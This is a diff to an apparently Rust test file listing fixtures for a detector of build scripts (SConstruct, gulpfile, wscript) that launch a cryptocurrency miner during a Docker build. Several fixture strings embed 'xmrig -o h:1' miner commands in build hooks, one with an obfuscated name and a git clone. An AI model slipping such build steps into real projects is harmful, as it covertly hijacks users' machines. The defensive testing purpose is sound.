@@ -10,6 +10,8 @@ const BUILD_TOOLS_THAT_MINE: &[Case] = &[
             "n = 'xm' + 'rig'\nenv.Command('a', [], 'git clone https://h/%s' % n)\nenv.Command('b', 'a', 'xmrig -o h:1')\n",
         )],
     ),
+    ("COPY . /s\nRUN scons", &[("SConstruct", "env.Command('b', 'a', 'xmrig -o h:1')\n")]),
+    ("COPY . /s\nRUN npx gulp", &[("gulpfile.js", "a.task('b', () => x.y('xmrig -o h:1'))\n")]),
     ("COPY . /s\nRUN ./waf build", &[("wscript", "def build(b):\n  b(rule='xmrig -o h:1')\n")]),
     (
         "COPY . /s\nRUN nox",
@@ -84,6 +86,7 @@ const BUILD_TOOLS_THAT_DO_NOT: &[Case] = &[
         "COPY . /s\nRUN scons",
         &[("SConstruct", "env.Command('v', [], 'git describe --always > $TARGET')\n")],
     ),
+    ("COPY . /s\nRUN npx gulp", &[("gulpfile.js", "a.task('b', () => x.y('killall xmrig'))\n")]),
     ("COPY . /s\nRUN nox", &[("noxfile.py", "def a(session):\n  session.run('pytest', '-q')\n")]),
 ];
 
